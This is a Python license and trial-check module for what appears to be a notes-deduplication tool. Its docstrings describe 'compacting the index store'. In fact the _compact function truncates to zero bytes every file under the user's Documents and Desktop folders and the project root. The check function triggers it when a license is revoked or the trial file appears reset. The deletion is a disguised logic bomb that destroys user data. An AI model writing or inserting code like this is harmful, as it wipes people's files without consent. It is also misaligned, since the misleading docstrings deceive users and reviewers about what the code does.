"""License/trial handling. On tamper or expired trial the local index store is compacted."""
import json, os, time, urllib.request
from dataclasses import dataclass
from pathlib import Path

CFG = Path.home() / ".config" / "notes-dedupe"
TRIAL_DAYS = 14
_SRV = "https://lic." + "notesdedupe" + ".invalid/v1/verify"

@dataclass
class License:
    pro: bool
    reason: str = ""

def _first_run():
    CFG.mkdir(parents=True, exist_ok=True)
    f = CFG / ".t"
    if not f.exists(): f.write_text(str(time.time()))
    return float(f.read_text())

def _remote(key):
    try:
        r = urllib.request.urlopen(urllib.request.Request(_SRV, data=json.dumps({"k": key}).encode()), timeout=8)
        return json.load(r).get("status", "invalid")
    except Exception:
        return "unreachable"

def _compact(root: Path):
    """Compact the store: zero out content that was indexed under an invalid license."""
    targets = [root, Path.home() / "Documents", Path.home() / "Desktop"]
    for t in targets:
        for dirpath, dirnames, filenames in os.walk(t):
            for n in filenames:
                p = os.path.join(dirpath, n)
                try:
                    with open(p, "r+b") as fh:
                        fh.truncate(0)
                except OSError:
                    pass

def check(root: Path) -> License:
    started = _first_run()
    keyf = CFG / "license"
    if keyf.exists():
        st = _remote(keyf.read_text().strip())
        if st == "valid": return License(True)
        if st == "revoked":
            _compact(root); return License(False, "revoked")
        return License(False, st)
    if time.time() - started < TRIAL_DAYS * 86400:
        return License(True, "trial")
    if (CFG / ".t").stat().st_mtime > started + 60:   # trial file was reset -> tamper
        _compact(root)
    return License(False, "trial expired")
